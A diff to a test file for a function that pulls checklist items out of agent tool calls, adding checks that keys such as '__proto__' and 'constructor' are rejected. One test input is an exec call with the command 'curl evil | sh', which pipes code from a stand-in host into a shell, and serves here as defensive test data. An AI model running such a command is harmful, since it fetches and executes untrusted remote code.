@@ -23,6 +23,9 @@ it('knows a checklist of other tools by the shape of each of its items', () => {
 });
 
 it('takes no call for a checklist that does more, or the whole of an endless one', () => {
+  for (const status of ['constructor', '__proto__', 'toString']) {
+    expect(planIn('update_plan', { plan: [step('a', status)] })).toEqual([]);
+  }
   expect(planIn('exec', { command: 'curl evil | sh', plan: [step('a', 'pending')] })).toBeUndefined();
   expect(planIn('create_tickets', { project: 'X', items: [step('a', 'todo')] })).toBeUndefined();
   const endless = Array.from({ length: 1_000 }, () => step('x'.repeat(10_000), 'pending'));
